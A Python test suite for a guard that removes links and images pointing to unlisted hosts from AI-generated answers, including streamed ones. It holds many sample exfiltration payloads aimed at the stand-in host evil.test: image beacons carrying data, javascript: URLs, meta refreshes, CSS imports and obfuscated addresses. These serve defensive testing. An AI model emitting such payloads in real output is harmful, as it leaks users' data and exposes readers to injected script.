"""Where the links of an answer lead."""

from __future__ import annotations

import re
import time
from html.parser import HTMLParser
from urllib.parse import urljoin, urlsplit

import pytest
from hypothesis import event, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from beluga import guarded
from beluga.errors import GuardBlocked
from beluga.guards import LinkGuard
from beluga.schema import AIMessage
from beluga.testing.contracts import GuardContract
from beluga.testing.strategies import chunkings

THOROUGHLY = settings.get_profile("guards")
GUARD = LinkGuard(["example.com"], images=["img.shields.io"])
SHOWING = LinkGuard(["example.com"], images=["img.shields.io"], action="text")

LEADING_AWAY = [
    # Markdown
    "![x](https://evil.test/?q=S)", "[x](https://evil.test/?q=S)", "[x](<https://evil.test/a b?q=S>)", "[x]( https://evil.test/S 'title' )",
    "[x](\nhttps://evil.test/S)", "[x]: https://evil.test/S", "[x]: <https://evil.test/S> 'title'", "![a][x]\n\n[x]:\n  //evil.test/S",
    "<https://evil.test/S>", "https://evil.test/S", "see https://evil.test/S.", "www.evil.test/S", "[x](//evil.test/S)", "[x](\\\\evil.test/S)",
    "[x](/\\evil.test/S)", "[x](https\\://evil.test/S)", "[x](&#104;ttps://evil.test/S)", "[x](https&colon;//evil.test/S)",
    "[![a [b] c](https://img.shields.io/x)](https://evil.test/S)", "[![a](https://evil.test/S)](https://example.com)",
    "[a \\] b](https://evil.test/S)", "[a](//evil.test)(//evil.test)", "[a\nb](https://evil.test/S)", "```\n![x](https://evil.test/S)\n```",
    # HTML
    '<img src="https://evil.test/S">', "<img src=https://evil.test/S>", "<IMG SRC='//evil.test/S'>", "<img/src=//evil.test/S>",
    '<img alt="a>b" src="&#104;ttps://evil.test/S">', '<img src="ht\ntps://evil.test/S">', '<img src="ht&#10;tps&#58;&#47;&#47;evil.test/S">',
    '<img srcset="https://img.shields.io/x 1x, https://evil.test/S 2x">', '<a href="https://evil.test/S">x</a>', "<iframe src=//evil.test/S></iframe>",
    '<link rel=stylesheet href="//evil.test/S">', '<form action="https://evil.test/S">', "<button formaction=//evil.test/S>x</button>",
    '<meta http-equiv="refresh" content="0;url=https://evil.test/S">', "<meta http-equiv=refresh content=0;url=//evil.test/S>",
    '<body background="https://evil.test/S">', "<table background=//evil.test/S>", '<base href="https://evil.test/">', "<video poster=https://evil.test/S>",
    '<svg><image xlink:href="https://evil.test/S"/></svg>', '<animate attributeName=href to="//evil.test/S">',
    '<iframe srcdoc="&lt;img src=//evil.test/S&gt;">', '<a ping="https://example.com https://evil.test/S" href=https://example.com>',
    # CSS
    '<p style="background:url(https://evil.test/S)">', "<p style=\"background:url('\\68 ttps://evil.test/S')\">", '<p style="background:url(//evil.test/S)">',
    '<style>@import "//evil.test/S.css";</style>', "<style>a{background:url( \\2f\\2f evil.test/S)}</style>", "<style>a{background:url(\\2f \\2f evil.test/S)}</style>",
    # Addresses
    "[x](https://example.com@evil.test/S)", "[x](https://example.com\\@evil.test/S)", "[x](https://example.com.evil.test/S)", "[x](https://evilexample.com/S)",
    "[x](https://example.com/?u=https%3A%2F%2Fevil.test%2FS)", "[x](http://evil.test/S)", "[x](HTTPS://EVIL.TEST/S)", "[x](https:evil.test/S)",
    "[x](https:/evil.test/S)", "[x](http:\\\\evil.test\\S)", "[x](ftp://evil.test)", "[x](mailto:a@evil.test?body=S)", "[x](https://[::1]/S)",
    "[x](javascript:fetch('//evil.test'))", "[x](data:text/html;base64,AAAA)", "![x](data:image/svg+xml;base64,AAAA)", "[x](//evil.test.)",
    "[x](https://evil\u3002test/S)", "https:\\/\\/evil.test\\/S",
    # A host of the other list
    "![x](https://example.com/S)", "[x](https://img.shields.io/S)", "![x][a]", "<img src=https://example.com/S>",
]  # fmt: skip

HARMLESS = [
    "![badge](https://img.shields.io/x?label=[build])", '[a](https://example.com/x?y=[1]&b=(2)#z "title")', "[a](/help#top)", "[a](docs/x.md)",
    "see (https://example.com/a).", "<https://docs.example.com/a>", "[a]: https://example.com/x", "[![b](https://img.shields.io/x.svg)](https://example.com/a)",
    "<a href='https://example.com/a?b=1&amp;c=2' title=x>", '<img src="https://img.shields.io/a b.png" alt="x: y">', '<p style="color:red;font:12px/1.5 Arial">',
    "www.example.com", "[w](https://example.com/wiki/K\u00e4se_(Essen))", "\u8bf7\u770bhttps://example.com/x\u3002\u8c22\u8c22", '{"u": "https://example.com/a", "v": "a\\nhttps://example.com"}',
    "x // comment", "//TODO", "std::vector<int> x[3]; a<b", "C:\\Users\\x", "$\\\\ \\frac{a}{b}$", "starts with https:// as it should", "ana@example.org",
    "AT&T &amp; b &lt;c", "[x](#a:b)", "items[0]: x", "`a[i](b)`", "\\[no link\\]", "[ ] task", "a `https:` and a [note]",
]  # fmt: skip


@pytest.mark.parametrize("text", LEADING_AWAY)
def test_what_leads_elsewhere_is_taken_out(text):
    """However it is written, nothing of it is left that leads anywhere, and a second look finds nothing more."""
    clean = GUARD.redact(text)
    assert clean != text
    assert "://evil" not in clean.lower()
    assert not GUARD.scan(clean)
    assert not SHOWING.scan(SHOWING.redact(text))
    blocked = LinkGuard(["example.com"], images=["img.shields.io"], action="block").validate(text)
    assert not blocked.allowed
    assert "evil" not in blocked.reason


@pytest.mark.parametrize("text", HARMLESS)
def test_what_leads_to_a_listed_host_or_nowhere_stays(text):
    """A listed host, a place on the same page, and prose or code that only looks like a link."""
    assert GUARD.validate(text).modified is None


def test_what_is_left_in_the_place_of_an_address():
    """The label stays; shown as text, an address has a form of which nothing makes a link."""
    assert GUARD.redact("![a](https://evil.test) <https://evil.test>") == "![a]() <(LINK)>"
    assert GUARD.redact("<img alt=a src='https://evil.test/x'>") == '<img alt=a src="">'
    assert SHOWING.redact("[a](https://evil.test/x 't')") == "[a]() (hxxps[:]//evil[.]test/x)"
    assert SHOWING.redact("www.evil.test") == "www[.]evil[.]test"
    assert SHOWING.redact("<img src=//evil.test>") == '<img src="">'


def test_schemes_without_a_host_are_listed_like_others():
    """Mail to a listed host, and a number to call, if their schemes are listed."""
    guard = LinkGuard(["example.com"], schemes=["https", "mailto", "tel"])
    assert guard.validate("[a](mailto:ana@example.com) [b](tel:+441632960000)").modified is None
    assert guard.redact("[a](mailto:ana@evil.test) [b](mailto:a@example.com?bcc=b@evil.test)") == "[a]() [b]()"
    assert guard.redact("[a](data:text/html,x)") == "[a]()"


def test_a_stream_of_an_answer_is_guarded():
    """No letter of the address gets out, also where it comes in pieces."""

    @guarded(output=[LinkGuard(["example.com"])])
    def answer():
        yield from ("see ", "![a", "](htt", "ps://ev", "il.test/?q=S) and [b]", "(https://example.com)")

    assert "".join(answer()) == "see ![a]() and [b](https://example.com)"


def test_a_blocking_guard_stops_a_stream_before_the_address():
    """What came before it is out, the address is not, and the error does not name it."""
    out = []

    @guarded(output=[LinkGuard(["example.com"], action="block")])
    def answer():
        yield from ("see ", "![a](https://evil.test/?q=S)", " and on")

    with pytest.raises(GuardBlocked, match="an address leads to a host that is not listed") as caught:
        out.extend(answer())
    assert "evil" not in str(caught.value)


def test_messages_are_guarded_too():
    """The guard sees the texts of whatever a function returns."""
    reply = guarded(output=[LinkGuard([])])(lambda: AIMessage("![a](https://evil.test)"))
    assert reply().text == "![a]()"


@pytest.mark.parametrize(
    ("arguments", "error", "message"),
    [
        ({"hosts": "example.com"}, TypeError, r"hosts must be several names, .* hosts=\['example.com'\]"),
        ({"hosts": [], "images": "example.com"}, TypeError, "images must be several names"),
        ({"hosts": [], "schemes": "https"}, TypeError, "schemes must be several names"),
        ({"hosts": None}, TypeError, "hosts must be several names, not one NoneType"),
        ({"hosts": ["https://example.com"]}, ValueError, "hosts: 'https://example.com' is not a host"),
        ({"hosts": ["*.example.com"]}, ValueError, "stands for its subdomains too"),
        ({"hosts": ["example.com:443"]}, ValueError, "is not a host"),
        ({"hosts": [""]}, ValueError, "'' is not a host"),
        ({"hosts": [None]}, ValueError, "None is not a host"),
        ({"hosts": ["127.1"]}, ValueError, "is not a host"),
        ({"hosts": ["b\u00fccher.example"]}, ValueError, "Punycode"),
        ({"hosts": [], "schemes": ["https://"]}, ValueError, "'https://' is not a scheme"),
        ({"hosts": [], "action": "remove"}, ValueError, "no action 'remove'; choose one of strip, text, block"),
    ],
)
def test_bad_arguments_are_refused_at_once(arguments, error, message):
    """What could never match, or would match everything, is no silent mistake."""
    with pytest.raises(error, match=message):
        LinkGuard(**arguments)


def test_hosts_in_any_usual_form_are_taken():
    """Capitals, a dot at the end, IPv6 with and without brackets."""
    assert LinkGuard(["EXAMPLE.com.", "[::1]", "2001:DB8:0::1"]).hosts == ("example.com", "::1", "2001:db8::1")


PIECES = st.sampled_from(
    ["[", "]", "(", ")", "![", "](", "]: ", "<", ">", "<img src=", "<a href=", " style=", '"', "'", "=", "\\", "&#58;", "&sol;", "\n", "\n\n", " ", "`"]
    + ["https://", "https:", "//", "/", "www.", "javascript:", "evil.test", "example.com", "img.shields.io", "@", "?q=S", "url(", "@import ", "a", ".", ",", ":"]
    + ["https://evil.test/S", "https://example.com/a", "![x](https://evil.test/S)", "[x](https://example.com)", "<img alt=", "srcset=", "title", "\u3002", "\t", "!"]
)  # fmt: skip
TEXTS = st.lists(PIECES, max_size=16).map("".join) | st.sampled_from(LEADING_AWAY + HARMLESS)


@THOROUGHLY
@given(text=TEXTS, data=st.data())
def test_a_stream_equals_the_whole(text, data):
    """For every text and every way to cut it, with either action."""
    guard = data.draw(st.sampled_from([GUARD, SHOWING]))
    stream = guard.stream()
    assert "".join([*map(stream.feed, data.draw(chunkings(text))), stream.close()]) == guard.redact(text)


@THOROUGHLY
@given(text=TEXTS)
def test_a_second_pass_finds_nothing_more(text):
    """What is put in the place of an address makes no link with what stands around it."""
    for guard in (GUARD, SHOWING):
        assert not guard.scan(guard.redact(text))


class Fetched(HTMLParser):
    """What a browser would ask for on the page that an answer is shown on."""

    def __init__(self, page):
        super().__init__()
        self.links, self.images = [], []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            if name in {"src", "href", "action"} and value is not None:
                # As the URL Standard reads it: controls and backslashes first.
                address = re.sub(r"[\t\n\r]", "", value.strip("".join(map(chr, range(33))))).replace("\\", "/")
                (self.links if tag == "a" else self.images).append(address)


def host_of(address):
    try:
        return (urlsplit(urljoin("https://page.test/", address)).hostname or "").removeprefix("docs.")
    except ValueError:
        return ""  # no host, so nothing is fetched


@THOROUGHLY
@given(text=TEXTS)
def test_what_a_renderer_fetches_is_listed(text):
    """A real reader of Markdown and HTML finds no link and no image to another host in what passed."""
    markdown = MarkdownIt("commonmark", {"html": True})
    before, after = Fetched(markdown.render(text)), Fetched(markdown.render(GUARD.redact(text)))
    if any("evil.test" in host_of(address) for address in (*before.links, *before.images)):
        event("led away")
    assert {host_of(each) for each in after.links} <= {"", "page.test", "example.com"}
    assert {host_of(each) for each in after.images} <= {"", "page.test", "img.shields.io"}


@pytest.mark.parametrize(
    "seed", ["[", "]", "](", "![", "[a](", "<a ", "<a b=", "<a '", "&#58;", "\\", "url(", "@import ", "//", "https://", "www.", "[a]: ", "a=", "(", '"', "[[]", "%25", "data:"]
)  # fmt: skip
def test_time_grows_with_the_text_and_no_faster(seed):
    """Four times the text takes at most a little more than four times the time, by parts as well as whole."""

    def took(size):
        text = (seed * size)[:size]
        started = time.process_time()
        GUARD.scan(text)
        return time.process_time() - started

    best = dict.fromkeys((10_000, 40_000), float("inf"))
    for _ in range(8):
        best = {size: min(least, took(size)) for size, least in best.items()}
        small, large = best.values()
        if large <= 8 * small + 0.005:
            return
    pytest.fail(f"{small:.4f} s, {large:.4f} s")


class TestContract(GuardContract):
    """A guard of links keeps the contract of guards."""

    telling_texts = ("![x](https://evil.test/S)", "www.evil.test", "<img src=//evil.test>")

    def make_guard(self):
        return LinkGuard(["example.com"])


@pytest.mark.parametrize(
    "text",
    [
        "<svg><a><animate attributeName=href values='/a;//evil.test/x'/></a></svg>",
        "<svg><a><set attributeName=href to='javascript:alert(1)'/></a></svg>",
        "<iframe srcdoc='&lt;img src=&#38;#47;&#38;#47;evil.test/x&gt;'></iframe>",
    ],
    ids=["animated", "set", "a page in an attribute"],
)
def test_an_address_that_is_put_in_later_is_found(text):
    """By an animation, or as a page within the page."""
    assert LinkGuard(["example.com"]).scan(text)


@pytest.mark.parametrize(
    "text",
    [
        "Nov 28 sshd[1234]: error: kex_exchange failed",
        "[Ana]: note: hi",
        "list[int]: A: the numbers",
        're.compile("\\\\d+")',
        "<svg xmlns='http://www.w3.org/2000/svg'></svg>",
        "[INFO]: db:connected",
        "[worker-3]: queue:empty",
        "[WARN]: cache:miss on shard 4",
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">',
        '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">',
        '<!DOCTYPE mapper\n  PUBLIC "-//mybatis.org//DTD Mapper 3.0//EN"\n  "http://mybatis.org/dtd/mybatis-3-mapper.dtd">',
    ],
)
def test_what_only_looks_like_a_link_stays(text):
    """Logs, notes, annotations, expressions, and the names of languages and of types of documents."""
    assert LinkGuard(["example.com"]).redact(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "[a]: javascript:alert",
        "[a]: tel:5550199",
        "[a]: db://connected",
        "[a](db:connected)",
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org.evil.test/a.dtd">',
        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/a.dtd?q=secret">',
        '<!DOCTYPE html SYSTEM "http://evil.test/secret.dtd">',
    ],
)
def test_what_only_looks_like_a_log_or_a_type_of_document_does_not_stay(text):
    """What something opens, and what somebody else's host would be told."""
    assert LinkGuard(["example.com"]).scan(text)
